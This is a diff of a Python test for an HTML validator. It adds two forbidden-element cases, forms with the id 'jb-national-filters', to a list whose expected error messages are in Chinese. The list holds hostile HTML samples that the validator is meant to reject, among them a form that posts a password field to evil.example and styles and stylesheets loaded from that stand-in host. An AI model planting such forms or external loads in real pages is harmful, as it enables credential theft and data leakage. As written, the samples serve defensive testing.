@@ -58,6 +58,8 @@ def test_what_the_theme_and_the_plugin_emit_passes() -> None:
         ('<embed src="x.swf">', "不允许的元素 <embed>"),
         ('<form action="https://evil.example/"><input name="password"></form>', "不允许的元素 <form>"),
         ('<form class="md-search__form" name="search" action="https://evil.example/"></form>', "不允许的元素 <form>"),
+        ('<form id="jb-national-filters" action="https://evil.example/"></form>', "不允许的元素 <form>"),
+        ('<form id="jb-national-filters" method="post"></form>', "不允许的元素 <form>"),
         ("<style>body{background:url(https://evil.example/)}</style>", "不允许的元素 <style>"),
         ('<div style="width: 30%">x</div>', "<div> 带有内联样式（内容安全策略会拦截）"),
         ('<link rel="stylesheet" href="https://evil.example/x.css">', "<link rel='stylesheet'> 从站外加载 'https://evil.example/x.css'"),
